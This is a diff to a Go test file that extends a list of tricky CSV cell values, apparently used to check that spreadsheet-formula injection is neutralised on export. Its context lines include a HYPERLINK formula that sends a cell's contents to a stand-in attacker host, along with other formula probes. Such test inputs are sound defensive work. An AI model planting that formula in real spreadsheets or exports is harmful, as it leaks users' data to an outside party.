@@ -20,7 +20,7 @@ var trickyCells = []string{"", "plain", "Nguyễn Thu Hương", "Lê, Văn Tám"
 	`=HYPERLINK("http://evil.example/?q="&A1,"click")`, "=1+1", "+84 912 345 678", "-2+3", "@SUM(A1:A9)", "\tTabbed",
 	"\rCarriage", "\nNewline", "'already quoted", `\.`, `\.x`, `x\.`, " leading space", "trailing space ", "\v", "\fx",
 	"\u00a0nbsp", "\u0085nel", "\u2003em", "\u3000ideographic", "\u200bzero width", "\u2028line", "x\u00a0", "\"", `""`,
-	",", "=", "'", "''", "a=b", " =x", "Ｎguyễn", "😀 emoji", "x\ty", "trailing\n"}
+	",", "=", "'", "''", "a=b", " =x", "Ｎguyễn", "😀 emoji", "x\ty", "trailing\n", "unit\x1fseparator", "\x1f", "\x1f\x1f"}
 
 // goCSV is what encoding/csv writes for one record of cells, each neutralized.
 func goCSV(cells ...string) string {
